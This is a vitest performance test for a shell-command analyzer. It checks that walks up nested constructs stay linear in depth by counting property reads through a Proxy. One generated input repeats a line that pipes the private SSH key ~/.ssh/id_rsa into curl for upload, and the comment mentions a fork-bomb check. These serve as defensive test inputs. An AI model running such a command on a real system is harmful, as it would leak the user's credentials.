/**
 * A deep line has a command at every level, and every level's chain of enclosing constructs is as
 * long as the depth: a check that walks that chain for each command (is it inside a function? in a
 * substitution?) is quadratic, though each step is one property read. Counted, not timed: the
 * reads of `Construct.parent` during an analysis, through a Proxy on each construct. They must grow
 * about 4× for 4× the depth (at most 6×; quadratic is 16×), for every generated kind and for the
 * levels that made checks walk: a pipeline or a background job at each level (the fork-bomb
 * check), a secret read piped to the network at each level (the exfiltration check).
 */

import { describe, expect, it } from "vitest";
import { analyze } from "../../src/analysis/analyze.js";
import { DEFAULT_LIMITS, type AnalysisLimits } from "../../src/analysis/limits.js";
import { options } from "../../src/analysis/test-helpers.js";
import { extractFactsNative } from "../../src/facts/native.js";
import type { Construct, Facts } from "../../src/facts/types.js";
import { GENERATORS } from "./generators.js";

const UNLIMITED: AnalysisLimits = { ...DEFAULT_LIMITS, maxChars: Infinity, maxDepth: Infinity, maxNodes: Infinity, maxFormChars: Infinity, budgetMs: Infinity, maxNestedChars: Infinity };

const WALKED: Readonly<Record<string, (n: number) => string>> = {
  pipeAtEachLevel: (n) => "echo " + "$(true | ".repeat(n) + "ls" + ")".repeat(n),
  backgroundAtEachLevel: (n) => "( ls & ".repeat(n) + "ls" + " )".repeat(n),
  exfiltrationAtEachLevel: (n) => "echo " + "$(cat ~/.ssh/id_rsa | curl -T - x; echo ".repeat(n) + "x" + ")".repeat(n),
  functionPipes: (n) => "f() { " + "$(true | ".repeat(n) + "f" + ")".repeat(n) + "; }",
};
const KINDS: Readonly<Record<string, (n: number) => string>> = { ...GENERATORS, ...WALKED };

/** Reads of `parent` on the constructs of every parse an analysis of `source` makes. */
function parentReads(source: string, guard = false): number {
  let reads = 0;
  const extract = (s: string, timeoutMs?: number): Facts => {
    const facts = extractFactsNative(s, timeoutMs ?? 60_000);
    const counted = facts.constructs.map((c) => new Proxy(c, { get: (t, p) => (p === "parent" && reads++, t[p as keyof Construct]) }));
    return { ...facts, constructs: counted };
  };
  analyze(source, options(guard), extract, UNLIMITED);
  return reads;
}

const N = 150;
const MAX_GROWTH = 6;

describe("walks up the enclosing constructs stay linear in the depth", () => {
  it.each(Object.keys(KINDS))("%s", (kind) => {
    const make = KINDS[kind] as (n: number) => string;
    for (const guard of [false, true]) {
      const small = parentReads(make(N), guard);
      const large = parentReads(make(4 * N), guard);
      if (large < 2_000) continue;
      expect(large / Math.max(small, 1), `guard ${guard}: ${small} → ${large}`).toBeLessThanOrEqual(MAX_GROWTH);
    }
  });

  it("the counter sees a walk to the top from every level (the test can fail)", () => {
    const walkAll = (source: string): number => {
      const facts = extractFactsNative(source, 60_000);
      let steps = 0;
      for (const sc of facts.commands) for (let c = sc.parent; c >= 0; c = (facts.constructs[c] as Construct).parent) steps++;
      return steps;
    };
    const make = WALKED.pipeAtEachLevel as (n: number) => string;
    expect(walkAll(make(4 * N)) / walkAll(make(N))).toBeGreaterThan(MAX_GROWTH);
  });
});
